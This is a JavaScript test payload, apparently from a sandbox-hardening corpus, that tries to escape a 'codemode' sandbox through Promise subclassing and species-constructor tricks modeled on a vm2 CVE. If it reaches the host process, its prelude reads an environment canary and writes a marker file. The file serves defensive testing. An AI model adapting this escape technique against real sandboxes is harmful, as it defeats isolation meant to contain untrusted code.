// @name    a Promise subclass and species constructors around tool-call promises
// @family  promise-species
// @ref     CVE-2023-37466 family (vm2 Promise species)
// @expect  no-escape
// ---- prelude (the same in every escape payload of this corpus): what to do with the host once reached ----
const MARKER = "/tmp/codemode-escape-marker";
// pwn(p): p is the host's `process`. Take the canary and leave the marker file; the canary in the
// outcome (or the marker on disk) is what the runner reports as an escape.
function pwn(p) {
  let canary = "?";
  try { canary = String(p.env.CODEMODE_CANARY); } catch {}
  try {
    const fs = typeof p.getBuiltinModule === "function" ? p.getBuiltinModule("node:fs") : p.mainModule.require("node:fs");
    fs.writeFileSync(MARKER, "escaped " + canary);
  } catch {}
  return "ESCAPED " + canary;
}
// hostProcess(v): v when it looks like a host process object.
function hostProcess(v) {
  try { if (v !== null && typeof v === "object" && typeof v.pid === "number" && v.env) return v; } catch {}
  return null;
}
// viaCtor(F): F used as the Function constructor of another realm, asked for that realm's process.
function viaCtor(F) {
  if (typeof F !== "function") return null;
  const bodies = ["return process", "return globalThis.process", "return this && this.process",
    "return typeof require === 'function' ? require('node:process') : null"];
  for (const body of bodies) {
    try { const p = hostProcess(F(body)()); if (p) return pwn(p); } catch {}
  }
  return null;
}
// probe(x): x itself, then the constructors one and two steps up from x and from its prototype.
function probe(x) {
  if (x === null || x === undefined) return null;
  const direct = hostProcess(x);
  if (direct) return pwn(direct);
  const fns = [];
  const take = (f) => { if (typeof f === "function" && fns.indexOf(f) < 0) fns.push(f); };
  try { take(x.constructor); take(x.constructor && x.constructor.constructor); } catch {}
  try {
    const proto = Reflect.getPrototypeOf(Object(x));
    take(proto && proto.constructor);
    take(proto && proto.constructor && proto.constructor.constructor);
  } catch {}
  for (const f of fns) { const r = viaCtor(f); if (r) return r; }
  return null;
}
// ---- payload ----
let out = null;
const check = (...xs) => { for (const x of xs) out = out || probe(x); };
class Spy extends Promise {
  constructor(executor) { super((res, rej) => { check(res, rej); executor(res, rej); }); }
  static get [Symbol.species]() { return Spy; }
}
const p = codemode.demo.echo({ s: 1 });
try { Reflect.setPrototypeOf(p, Spy.prototype); } catch {}
try { await p.then((v) => check(v)); } catch (e) { check(e); }
try { check(await Promise.all.call(Spy, [codemode.demo.echo({ s: 2 }), codemode.demo.echo({ s: 3 })])); } catch (e) { check(e); }
try { check(await Spy.resolve(codemode.demo.echo({ s: 4 }))); } catch (e) { check(e); }
try { await Promise.race.call(function (executor) { executor((v) => check(v), (e) => check(e)); }, [codemode.demo.echo({ s: 5 })]); } catch (e) { check(e); }
const q = codemode.demo.echo({ s: 6 });
try { q.constructor = Spy; await q.finally(() => check(q)); } catch (e) { check(e); }
try { await Promise.prototype.then.call(codemode.demo.echo({ s: 7 }), (v) => check(v)); } catch (e) { check(e); }
return out || "blocked";
